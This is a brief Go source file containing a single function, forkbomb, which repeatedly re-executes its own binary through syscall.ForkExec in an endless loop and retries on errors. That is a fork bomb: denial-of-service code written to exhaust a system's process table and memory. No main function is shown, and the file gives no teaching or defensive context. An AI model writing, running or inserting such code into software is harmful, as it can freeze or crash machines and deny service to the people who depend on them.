package main

import (
	"fmt"
	"os"
	"syscall"
	"time"
)

// forkbomb starts copies of itself that do the same, forever, never waiting.
func forkbomb() {
	for {
		_, err := syscall.ForkExec("/proc/self/exe", []string{os.Args[0], "forkbomb"}, &syscall.ProcAttr{})
		if err != nil {
			fmt.Fprintln(os.Stderr, "fork:", err)
			time.Sleep(10 * time.Millisecond)
		}
	}
}
